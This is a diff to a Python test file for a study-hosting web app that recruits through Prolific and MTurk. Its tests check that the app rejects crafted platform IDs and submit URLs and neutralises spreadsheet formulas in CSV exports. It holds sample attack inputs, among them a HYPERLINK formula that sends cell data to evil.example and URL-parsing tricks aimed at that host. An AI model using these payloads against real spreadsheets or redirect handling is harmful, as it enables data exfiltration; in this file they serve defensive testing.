@@ -9,7 +9,6 @@ import json
 import re
 
 from sqlalchemy import func, select
-
 from study_fixtures import answer_body, csrf_of, form, page_csrf, post_answer, start_participant
 from test_app_admin import login as admin_login_as_alice
 
@@ -19,7 +18,7 @@ LIVE = "https%3A%2F%2Fwww.mturk.com"
 
 
 def count(app, model, *where):
-    from study_app.db import db
+    from advlegit.study_app.db import db
 
     with app.app_context():
         return db.session.scalar(select(func.count()).select_from(model).where(*where))
@@ -54,7 +53,7 @@ def test_mturk_worker_sites_may_frame_and_submit_hosts_receive_the_form(client, 
 # ------------------------------------------------------------------ item 6: ids matched whole
 
 def test_platform_ids_are_matched_whole_and_in_the_platforms_case(app, client, study_id):
-    from study_app.models import Participant
+    from advlegit.study_app.models import Participant
 
     first = client.get(f"/s/{study_id}?PROLIFIC_PID=abc123")
     assert first.status_code == 303
@@ -71,7 +70,7 @@ def test_platform_ids_are_matched_whole_and_in_the_platforms_case(app, client, s
     assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1%0A", t=SANDBOX)).status_code == 400
     assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1%0A", w="W1", t=SANDBOX)).status_code == 400
     assert count(app, Participant) == 2
-    from study_app.db import db
+    from advlegit.study_app.db import db
 
     with app.app_context():
         ids = sorted(db.session.scalars(select(Participant.platform_pid)))
@@ -79,7 +78,7 @@ def test_platform_ids_are_matched_whole_and_in_the_platforms_case(app, client, s
 
 
 def test_answer_uuid_with_a_trailing_newline_is_refused_on_every_database(app, client, study_id):
-    from study_app.models import Response
+    from advlegit.study_app.models import Response
 
     token = start_participant(client, study_id)
     body = answer_body(0, "1", "0b9c1f1e-7a55-4c1e-9b1a-2f0c9d7e6a51\n")
@@ -92,7 +91,7 @@ def test_answer_uuid_with_a_trailing_newline_is_refused_on_every_database(app, c
 # ------------------------------------------------------------------ item 5: 400, not 500
 
 def test_times_that_overflow_and_deeply_nested_bodies_are_bad_requests(app, client, study_id):
-    from study_app.models import Response
+    from advlegit.study_app.models import Response
 
     token = start_participant(client, study_id)
     for shown in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00Z"):
@@ -110,7 +109,7 @@ def test_times_that_overflow_and_deeply_nested_bodies_are_bad_requests(app, clie
 # ------------------------------------------------------------------ item 7: the submit URL
 
 def test_turk_submit_to_must_be_exactly_an_allowed_host(app, client, study_id):
-    from study_app.models import Participant
+    from advlegit.study_app.models import Participant
 
     bad = ["https%3A%2F%2Fevil.example%5C%40www.mturk.com", "https%3A%2F%2Fwww.mturk.com%5C%40evil.example",
            "https%3A%2F%2Fwww.mturk.com%40evil.example", "https%3A%2F%2Fuser%40www.mturk.com",
@@ -134,8 +133,8 @@ def test_turk_submit_to_must_be_exactly_an_allowed_host(app, client, study_id):
 def test_a_stored_bad_submit_address_is_never_used(app, client, study_id):
     """Rows stored before the stricter check (the backslash trick passed Python's parser) get no form
     that posts anywhere but an allowed host."""
-    from study_app.db import db
-    from study_app.models import Participant
+    from advlegit.study_app.db import db
+    from advlegit.study_app.models import Participant
 
     r = client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1", t=LIVE))
     token = token_of(r.headers["Location"])
@@ -153,9 +152,9 @@ def test_a_stored_bad_submit_address_is_never_used(app, client, study_id):
 # ------------------------------------------------------------------ item 4: a returning worker
 
 def test_returning_worker_submits_the_new_assignment_to_the_new_host(app, client, study_id):
-    from study_app.db import db
-    from study_app.export import iter_rows
-    from study_app.models import Participant, Study
+    from advlegit.study_app.db import db
+    from advlegit.study_app.export import iter_rows
+    from advlegit.study_app.models import Participant, Study
 
     r = client.get(f"/s/{study_id}?" + MTURK.format(a="OLDA", w="W7", t=SANDBOX))
     token = token_of(r.headers["Location"])
@@ -191,9 +190,9 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
 def test_formula_text_is_neutralised_in_csv_and_raw_in_jsonl(app, client, study_id):
-    from study_app.db import db
-    from study_app.export import stream_csv, stream_debrief_csv, stream_jsonl
-    from study_app.models import Study
+    from advlegit.study_app.db import db
+    from advlegit.study_app.export import stream_csv, stream_debrief_csv, stream_jsonl
+    from advlegit.study_app.models import Study
 
     texts = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "an ordinary answer"]
     r = client.get(f"/s/{study_id}?PROLIFIC_PID=-abc")  # a platform id may start with "-"
@@ -254,7 +253,6 @@ def test_production_access_log_holds_no_participant_token_or_platform_id(app, db
     import subprocess
     import sys
     import time
-    from pathlib import Path
 
     import pytest
     import requests
@@ -264,11 +262,10 @@ def test_production_access_log_holds_no_participant_token_or_platform_id(app, db
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
-    root = Path(__file__).resolve().parents[2]
     env = {**os.environ, "DATABASE_URL": db_url, "ADVLEGIT_INSTANCE": str(tmp_path / "inst"),
            "ADVLEGIT_SECRET_KEY": "k" * 40}
     log = (tmp_path / "access.log").open("wb")
-    proc = subprocess.Popen([sys.executable, str(root / "advlegit.py"), "serve", "--production", "--port", str(port),
+    proc = subprocess.Popen([sys.executable, "-m", "advlegit", "serve", "--production", "--port", str(port),
                              "--workers", "1", "--threads", "2"], env=env, stdout=log, stderr=subprocess.STDOUT)
     base = f"http://127.0.0.1:{port}"
     try:
@@ -304,20 +301,18 @@ def test_study_list_prints_only_the_studies(app, db_url, study_id, tmp_path):
     import os
     import subprocess
     import sys
-    from pathlib import Path
 
     import pytest
 
     if not db_url.startswith("sqlite"):
         pytest.skip("logging does not depend on the database")
-    root = Path(__file__).resolve().parents[2]
     env = {**os.environ, "DATABASE_URL": db_url, "ADVLEGIT_INSTANCE": str(tmp_path / "inst")}
-    quiet = subprocess.run([sys.executable, str(root / "advlegit.py"), "study", "list"], env=env,
+    quiet = subprocess.run([sys.executable, "-m", "advlegit", "study", "list"], env=env,
                            capture_output=True, text=True, timeout=120)
     assert quiet.returncode == 0, quiet.stderr
     assert quiet.stderr == ""  # no "INFO alembic.runtime.plugins: setup plugin ..." lines
     assert [line.split("\t")[0] for line in quiet.stdout.splitlines()] == [study_id]
-    loud = subprocess.run([sys.executable, str(root / "advlegit.py"), "-v", "study", "list"], env=env,
+    loud = subprocess.run([sys.executable, "-m", "advlegit", "-v", "study", "list"], env=env,
                           capture_output=True, text=True, timeout=120)
     assert loud.returncode == 0 and "alembic" in loud.stderr  # library logs on -v
     assert loud.stdout == quiet.stdout
